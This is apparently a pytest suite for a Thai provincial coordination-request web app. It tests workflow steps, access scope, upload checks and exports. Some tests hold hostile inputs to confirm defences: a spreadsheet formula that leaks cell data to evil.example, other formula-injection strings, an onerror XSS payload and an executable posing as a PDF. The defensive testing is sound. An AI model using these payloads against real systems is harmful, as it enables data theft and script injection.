"""The request pages: the main path through the web, scope on every URL, bad input, query budgets."""

from __future__ import annotations

import io
import re
import uuid
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from viewflow.workflow.models import Task
from viewflow.workflow.status import STATUS

from cases.models import Attachment, CoordinationRequest, RequestStatus
from cases.services import requests as services
from tests.coordination import Org, docx_bytes, fresh, pdf_bytes, request_input, sent_request

pytestmark = pytest.mark.django_db

ACTIONS = [
    "route",
    "return",
    "reject",
    "answer",
    "ask",
    "clarify",
    "hand_on",
    "accept",
    "reopen",
    "claim",
    "release",
    "withdraw",
    "reassign",
]


def client_for(user: object) -> Client:
    client = Client()
    client.force_login(user)
    return client


def form_data(org: Org, **changes: object) -> dict[str, object]:
    data: dict[str, object] = {
        "token": str(uuid.uuid4()),
        "subject": "ขอหารือแนวทางการจัดซื้อจัดจ้าง",
        "details": "รายละเอียดการหารือ",
        "category": org.category.pk,
        "urgency": "URGENT",
        "district": org.district.pk,
        "target": f"unit:{org.bureau.pk}",
        "send": "1",
    }
    data.update(changes)
    return data


def task_of(request: CoordinationRequest) -> int:
    return Task.objects.get(
        process_id=request.process_id, flow_task_type="HUMAN", status__in=[STATUS.NEW, STATUS.ASSIGNED]
    ).pk


def test_officer_opens_director_routes_desk_answers_officer_accepts(org: Org) -> None:
    officer = client_for(org.officer)
    assert officer.get(reverse("requests:new")).status_code == 200
    response = officer.post(
        reverse("requests:new"),
        form_data(
            org, attachments=[SimpleUploadedFile("หนังสือ.pdf", pdf_bytes(), content_type="application/pdf")]
        ),
    )
    request = CoordinationRequest.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse(
        "requests:detail", args=[request.pk]
    )
    assert request.status == RequestStatus.REVIEW and request.attachments.count() == 1

    director = client_for(org.director)
    queue = director.get(reverse("requests:queue"))
    assert request.number in queue.content.decode()
    detail = director.get(reverse("requests:detail", args=[request.pk])).content.decode()
    assert "Approve and route" in detail or "อนุมัติ" in detail
    response = director.post(
        reverse("requests:act", args=[request.pk, "route"]),
        {"task": task_of(request), "target": f"unit:{org.bureau.pk}", "comment": "โปรดพิจารณา"},
    )
    assert response.status_code == 302 and fresh(request).status == RequestStatus.AT_TARGET

    desk = client_for(org.desk)
    assert request.number in desk.get(reverse("requests:pool")).content.decode()
    desk.post(reverse("requests:act", args=[request.pk, "claim"]), {"task": task_of(request)})
    assert fresh(request).holder == org.desk
    # The second desk member is told, not given a server error.
    response = client_for(org.desk2).post(
        reverse("requests:act", args=[request.pk, "claim"]), {"task": task_of(request)}, follow=True
    )
    assert response.status_code == 200 and fresh(request).holder == org.desk
    desk.post(
        reverse("requests:act", args=[request.pk, "answer"]), {"task": task_of(request), "answer": "ตอบแล้ว"}
    )
    assert fresh(request).status == RequestStatus.ANSWERED

    officer.post(reverse("requests:act", args=[request.pk, "accept"]), {"task": task_of(request)})
    assert fresh(request).status == RequestStatus.CLOSED
    page = officer.get(reverse("requests:detail", args=[request.pk])).content.decode()
    assert "ตอบแล้ว" in page


def test_the_same_form_posted_twice_creates_one_request(org: Org) -> None:
    officer = client_for(org.officer)
    data = form_data(org)
    officer.post(reverse("requests:new"), data)
    officer.post(reverse("requests:new"), data)
    assert CoordinationRequest.objects.count() == 1
    assert Task.objects.filter(flow_task_type="HUMAN").count() == 1


def test_a_draft_is_saved_without_a_number_and_sent_later(org: Org) -> None:
    officer = client_for(org.officer)
    data = form_data(org)
    del data["send"]
    officer.post(reverse("requests:new"), {**data, "draft": "1"})
    draft = CoordinationRequest.objects.get()
    assert draft.status == RequestStatus.DRAFT and draft.number == ""
    assert client_for(org.director).get(reverse("requests:detail", args=[draft.pk])).status_code == 404
    officer.post(reverse("requests:send", args=[draft.pk]))
    assert fresh(draft).number == "ปส.ชม. 1/2569"


def test_a_bad_file_is_refused_and_the_form_kept(org: Org) -> None:
    officer = client_for(org.officer)
    fake = SimpleUploadedFile(
        "รายงาน.pdf", b"MZ\x90\x00 this is an executable", content_type="application/pdf"
    )
    response = officer.post(reverse("requests:new"), form_data(org, attachments=[fake]))
    assert response.status_code == 200
    page = response.content.decode()
    assert "ขอหารือแนวทางการจัดซื้อจัดจ้าง" in page  # what was typed is kept
    assert "รายงาน.pdf" in page
    assert CoordinationRequest.objects.count() == 0


@pytest.mark.parametrize(
    ("name", "content", "ok"),
    [
        ("a.pdf", pdf_bytes(), True),
        ("a.docx", docx_bytes(), True),
        ("a.png", b"\x89PNG\r\n\x1a\n" + b"0" * 20, True),
        ("a.jpg", b"\xff\xd8\xff\xe0" + b"0" * 20, True),
        ("a.xlsx", docx_bytes(), False),  # a Word package named .xlsx
        ("a.pdf", b"<html>", False),
        ("a.exe", b"MZ", False),
        ("a.pdf", b"", False),
    ],
)
def test_attachments_are_checked_by_content(name: str, content: bytes, ok: bool) -> None:
    upload = SimpleUploadedFile(name, content)
    if ok:
        assert services.attachment_check(upload)
    else:
        with pytest.raises(ValidationError):
            services.attachment_check(upload)


def test_an_oversized_attachment_is_refused(settings: object, org: Org) -> None:
    settings.REQUEST_ATTACHMENT_MAX_BYTES = 100  # type: ignore[attr-defined]
    with pytest.raises(ValidationError, match="MB"):
        services.attachment_check(SimpleUploadedFile("a.pdf", pdf_bytes() + b"0" * 200))


def test_empty_and_oversized_text_and_own_province_target_get_messages(org: Org) -> None:
    officer = client_for(org.officer)
    response = officer.post(
        reverse("requests:new"),
        form_data(org, subject="", details="ก" * 5001, target=f"province:{org.chiang_mai.pk}"),
    )
    assert response.status_code == 200
    assert set(response.context["form"].errors) >= {"subject", "details", "target"}
    request = sent_request(org)
    response = client_for(org.director).post(
        reverse("requests:act", args=[request.pk, "reject"]), {"task": task_of(request), "reason": " "}
    )
    assert response.status_code == 400 and fresh(request).status == RequestStatus.REVIEW


def test_a_stale_approve_is_told_not_failed(org: Org) -> None:
    request = sent_request(org)
    task = task_of(request)
    director = client_for(org.director)
    director.post(reverse("requests:act", args=[request.pk, "route"]), {"task": task, "target": ""})
    response = director.post(
        reverse("requests:act", args=[request.pk, "route"]), {"task": task, "target": ""}, follow=True
    )
    assert response.status_code == 200
    messages = [str(m) for m in response.context["messages"]]
    assert messages and "handle" not in messages[0]
    assert Task.objects.filter(process_id=request.process_id, flow_task_type="HUMAN").count() == 2


def test_attachment_download_and_exports(org: Org) -> None:
    request = sent_request(org)
    services.attachment_add(
        request=request, by=org.officer, upload=SimpleUploadedFile("หนังสือ.pdf", pdf_bytes())
    )
    attachment = Attachment.objects.get()
    response = client_for(org.director).get(reverse("requests:attachment", args=[request.pk, attachment.pk]))
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF")
    assert "attachment" in response["Content-Disposition"]
    csv_response = client_for(org.director).get(reverse("requests:export", args=["csv"]) + "?list=province")
    text = csv_response.content.decode("utf-8-sig")
    assert request.number in text
    xlsx = client_for(org.central).get(
        reverse("requests:export", args=["xlsx"]) + "?list=all&q=" + request.number
    )
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.cell(row=2, column=1).value == request.number


@pytest.fixture
def foreign(org: Org) -> CoordinationRequest:
    """A Lamphun officer's request to another bureau, with a file: outside everyone's scope but central's."""
    from organisation.models import DistrictAssignment

    assert DistrictAssignment.objects.filter(officer=org.lp_officer.officer).exists()
    data = request_input(org, district=org.lamphun_district, target=org.other_bureau)
    draft = services.request_save_draft(by=org.lp_officer, data=data)
    services.attachment_add(request=draft, by=org.lp_officer, upload=SimpleUploadedFile("x.pdf", pdf_bytes()))
    return services.request_send(request=draft, by=org.lp_officer)


@pytest.mark.parametrize("role", ["officer", "neighbour", "director", "head", "desk"])
def test_every_url_of_another_provinces_request_answers_404(
    org: Org, foreign: CoordinationRequest, role: str
) -> None:
    client = client_for(getattr(org, role))
    attachment = foreign.attachments.get()
    pk = foreign.pk
    task = task_of(foreign)
    gets = [
        reverse("requests:detail", args=[pk]),
        reverse("requests:edit", args=[pk]),
        reverse("requests:attachment", args=[pk, attachment.pk]),
    ]
    posts = [
        reverse("requests:send", args=[pk]),
        reverse("requests:comment", args=[pk]),
        reverse("requests:attach", args=[pk]),
        reverse("requests:edit", args=[pk]),
    ] + [reverse("requests:act", args=[pk, action]) for action in ACTIONS]
    for url in gets:
        assert client.get(url).status_code == 404, url
    for url in posts:
        assert (
            client.post(url, {"task": task, "text": "x", "reason": "x", "answer": "x"}).status_code == 404
        ), url
    for name in ("mine", "queue", "pool", "province", "all"):
        for fmt in ("csv", "xlsx"):
            response = client.get(reverse("requests:export", args=[fmt]) + f"?list={name}")
            assert response.status_code in (200, 404)
            if response.status_code == 200 and fmt == "csv":
                assert foreign.number not in response.content.decode("utf-8-sig")
    for name in ("mine", "queue", "pool", "province", "all"):
        response = client.get(reverse(f"requests:{name}"))
        assert response.status_code in (200, 404)
        assert foreign.number not in response.content.decode()
    assert fresh(foreign).status == RequestStatus.REVIEW


def test_central_staff_and_the_lamphun_director_see_it(org: Org, foreign: CoordinationRequest) -> None:
    for user in (org.central, org.lp_director, org.lp_head):
        assert client_for(user).get(reverse("requests:detail", args=[foreign.pk])).status_code == 200
    # The bureau it is routed to sees it once routed; the other bureau never.
    services.request_route(request=foreign, task_id=task_of(foreign), by=org.lp_director)
    assert client_for(org.other_desk).get(reverse("requests:detail", args=[foreign.pk])).status_code == 200
    assert client_for(org.desk).get(reverse("requests:detail", args=[foreign.pk])).status_code == 404


def test_list_pages_stay_within_a_query_budget(org: Org, django_assert_max_num_queries: object) -> None:
    for _ in range(12):
        sent_request(org)
    director, officer, central = client_for(org.director), client_for(org.officer), client_for(org.central)
    pages = [
        (officer, reverse("requests:mine")),
        (director, reverse("requests:queue")),
        (director, reverse("requests:province") + "?status=REVIEW&overdue=on"),
        (central, reverse("requests:all")),
    ]
    for client, url in pages:
        client.get(url)  # warm the session
        with django_assert_max_num_queries(21):  # type: ignore[operator]  # 20, and the centre in the footer
            assert client.get(url).status_code == 200
    request = CoordinationRequest.objects.first()
    with django_assert_max_num_queries(30):  # type: ignore[operator]
        assert director.get(reverse("requests:detail", args=[request.pk])).status_code == 200


def test_a_list_names_the_reference_data_as_it_is_now(org: Org) -> None:
    """A list's rows take their category, district and target from copies held in the process, and its unbound
    filter form is rendered once: a category or a district renamed shows on the next look, in both."""
    sent_request(org)
    officer = client_for(org.officer)
    url = reverse("requests:mine")
    html = officer.get(url).content.decode()
    assert f">{org.category.name_th} · " in html  # the row: category · requester
    assert f">{org.category.name_th}</option>" in html  # the filter's option
    officer.get(url)  # held now

    org.category.name_th = "หมวดที่เปลี่ยนชื่อ"
    org.category.save()
    org.district.name_th = "อำเภอที่เปลี่ยนชื่อ"
    org.district.save()
    html = officer.get(url).content.decode()
    assert ">หมวดที่เปลี่ยนชื่อ · " in html
    assert ">หมวดที่เปลี่ยนชื่อ</option>" in html
    assert "อำเภออำเภอที่เปลี่ยนชื่อ" in html


def test_the_home_page_shows_what_waits_for_each_person(org: Org) -> None:
    request = sent_request(org)
    html = client_for(org.director).get(reverse("home")).content.decode()
    assert request.number in html and reverse("requests:queue") in html
    services.request_route(request=request, task_id=task_of(request), by=org.director)
    html = client_for(org.desk).get(reverse("home")).content.decode()
    assert reverse("requests:pool") in html
    html = client_for(org.officer).get(reverse("home")).content.decode()
    assert reverse("requests:new") in html


def test_the_target_picker_lists_provinces_and_bureaus_in_thai_order(org: Org) -> None:
    from workdays.thai import thai_key

    html = client_for(org.officer).get(reverse("requests:new")).content.decode()
    select = re.search(r'<select[^>]*name="target"[^>]*>(.*?)</select>', html, re.S)
    assert select is not None
    groups = re.findall(r"<optgroup[^>]*>(.*?)</optgroup>", select[1], re.S)
    bureaus, provinces = (
        [o.strip() for o in re.findall(r"<option[^>]*>(.*?)</option>", g)] for g in groups[1:3]
    )
    assert len(provinces) == 75  # another province: the 76 with an office but one's own
    assert provinces == sorted(provinces, key=thai_key)
    assert provinces.index("เชียงราย") < provinces.index("อ่างทอง")
    assert bureaus == sorted(bureaus, key=thai_key)


EVIL_SUBJECT = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'


def test_the_request_exports_hold_no_formula_and_typed_cells(org: Org) -> None:
    """Issue 11 item 9: a subject typed as a formula is text in both files; the XLSX has date cells, the
    header frozen and a filter; a Thai file has no English."""
    import csv
    import datetime

    for subject in (EVIL_SUBJECT, "-2+3", "@SUM(A1)", "+cmd", "ขอหารือ"):
        sent_request(org, subject=subject)
    starts = ("=", "+", "-", "@", "\t", "\r")
    for user, name in ((org.officer, "mine"), (org.director, "province"), (org.central, "all")):
        client = client_for(user)
        response = client.get(reverse("requests:export", args=["csv"]) + f"?list={name}")
        assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert len(rows) == 1 + 5
        assert not [value for row in rows for value in row if value.startswith(starts)]
        assert f"'{EVIL_SUBJECT}" in [row[1] for row in rows]
        # Apart from what was typed (the subject), a Thai file has no English.
        assert not [v for row in rows for v in row[:1] + row[2:] if re.search("[A-Za-z]", v)]

        response = client.get(reverse("requests:export", args=["xlsx"]) + f"?list={name}")
        sheet: Any = load_workbook(io.BytesIO(response.content)).active
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:N{sheet.max_row}"
        assert sheet.max_row == 1 + 5
        assert all(sheet.column_dimensions[c.column_letter].width >= 8 for c in sheet[1])
        for row in sheet.iter_rows(min_row=2):
            assert all(cell.data_type != "f" for cell in row)
            typed = row[1]
            assert typed.data_type == "s" and typed.quotePrefix == typed.value.startswith(starts)
            sent = row[10]
            assert sent.is_date and isinstance(sent.value, datetime.datetime)
            assert sent.number_format.startswith("[$-th-TH,107]")
            others = row[:1] + row[2:]
            assert not [
                c.value for c in others if isinstance(c.value, str) and re.search("[A-Za-z]", c.value)
            ]
        assert EVIL_SUBJECT in [row[1].value for row in sheet.iter_rows(min_row=2)]


def test_central_staff_choose_a_district_among_the_chosen_provinces_not_among_878(org: Org) -> None:
    """The country's list filters by district within the province chosen first; a link that names a district
    alone still filters by it."""
    request = sent_request(org)
    central = client_for(org.central)
    url = reverse("requests:all")

    def district_options(html: str) -> set[str]:
        select = re.search(r'<select name="district".*?</select>', html, re.S)
        assert select is not None
        return {value for value in re.findall(r'<option value="(\d+)"', select.group(0))}

    html = central.get(url).content.decode()
    assert district_options(html) == set()
    assert "เลือกจังหวัดแล้วกด" in html

    province = org.district.province
    html = central.get(url, {"province": province.pk}).content.decode()
    listed = district_options(html)
    assert str(org.district.pk) in listed and str(org.lamphun_district.pk) not in listed
    assert len(listed) == province.districts.count()

    html = central.get(url, {"district": org.district.pk}).content.decode()
    assert district_options(html) == {str(org.district.pk)}
    assert request.number in html
    other = central.get(url, {"district": org.other_district.pk}).content.decode()
    assert request.number not in other


def test_the_countrys_figures_count_and_take_the_median_by_province_and_by_target(org: Org) -> None:
    """Hand-made: three answered requests to the bureau (1, 2 and 6 days: median 2), one open and overdue to
    the bureau, one open and on time to Lamphun."""
    import datetime

    from django.utils import timezone

    from cases.selectors.requests import figures

    now = timezone.now()
    day = datetime.timedelta(days=1)
    made = [sent_request(org) for _ in range(4)] + [sent_request(org, target=org.lamphun)]
    for request, days in zip(made[:3], [1, 2, 6], strict=True):
        CoordinationRequest.objects.filter(pk=request.pk).update(
            status=RequestStatus.CLOSED, sent_at=now - 10 * day, answered_at=now - 10 * day + days * day
        )
    CoordinationRequest.objects.filter(pk=made[3].pk).update(due_at=now - day)
    CoordinationRequest.objects.filter(pk=made[4].pk).update(due_at=now + day)

    found = figures(CoordinationRequest.objects.all(), now)
    (chiang_mai,) = found["by_province"]
    assert (chiang_mai.label, chiang_mai.open, chiang_mai.overdue, chiang_mai.answered) == (
        org.chiang_mai.name_th,
        2,
        1,
        3,
    )
    assert chiang_mai.median_days == 2.0
    by_target = {row.label: row for row in found["by_target"]}
    bureau, lamphun = by_target[org.bureau.name_th], by_target[f"จังหวัด{org.lamphun.name_th}"]
    assert (bureau.open, bureau.overdue, bureau.answered, bureau.median_days) == (1, 1, 3, 2.0)
    assert (lamphun.open, lamphun.overdue, lamphun.answered, lamphun.median_days) == (1, 0, 0, None)
    html = client_for(org.central).get(reverse("requests:all")).content.decode()
    assert "2.0" in html


def test_the_request_table_escapes_what_people_typed_and_speaks_thai(org: Org) -> None:
    """The request table is a Jinja2 template (workdays/jinja_env.py): a subject typed as markup shows as text
    on the officer's list and the director's queue, the labels come from the Thai catalogue, and the dates are
    Buddhist Era."""
    typed = '<img src=x onerror="alert(1)"> & "ขอหารือ"'
    request = sent_request(org, subject=typed)
    for user, name in ((org.officer, "requests:mine"), (org.director, "requests:queue")):
        html = client_for(user).get(reverse(name)).content.decode()
        assert (
            "<img src=x" not in html
            and "&lt;img src=x onerror=&#34;alert(1)&#34;&gt; &amp; &#34;ขอหารือ&#34;" in html
        )
        assert f'href="{reverse("requests:detail", args=[request.pk])}"' in html
        assert "เลขที่" in html and "กำหนดเสร็จ" in html, name
        assert re.search(r"25[67]\d", html.split("req-table", 1)[1]), name  # a BE year in the due column


def test_the_countrys_figures_are_counted_once_a_few_minutes_for_each_filter(
    org: Org, settings: Any, clock: Any
) -> None:
    """The figures by province and by target on the country's list read every request the filters leave: they
    are counted once for all central staff asking for the same filters and held (MONITORING_FIGURES_SECONDS),
    so the page's time does not grow with the rows; the page says when they were counted."""
    import datetime

    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    settings.MONITORING_FIGURES_SECONDS = 300
    sent_request(org)
    url = reverse("requests:all")
    first, second = client_for(org.central), client_for(org.central)
    first.get(url)
    with CaptureQueriesContext(connection) as looked:
        page = second.get(url + "?page=1").content.decode()
    assert not [q for q in looked.captured_queries if '"median"' in q["sql"] or "GROUP BY 1" in q["sql"]]
    assert "ตัวเลข ณ" in page and "คำนวณใหม่ทุก 5 นาที" in page

    sent_request(org, target=org.lamphun)
    by_target = second.get(url + "?status=REVIEW").content.decode()  # other filters: counted for them
    assert f"จังหวัด{org.lamphun.name_th}" in by_target.split('id="by-target-title"', 1)[1]
    clock.shift(datetime.timedelta(seconds=301))  # five minutes later: counted again
    assert (
        f"จังหวัด{org.lamphun.name_th}" in second.get(url).content.decode().split('id="by-target-title"', 1)[1]
    )


def test_the_countrys_figures_name_each_number_on_a_phone(org: Org) -> None:
    """On a phone a table's rows stack as cards; each figure carries its column's name (data-label)."""
    sent_request(org)
    html = client_for(org.central).get(reverse("requests:all")).content.decode()
    figures = html.split('id="by-province-title"', 1)[1]
    for label in ("เปิด", "เกินกำหนด", "ตอบแล้ว"):
        assert f'data-label="{label}"' in figures, label
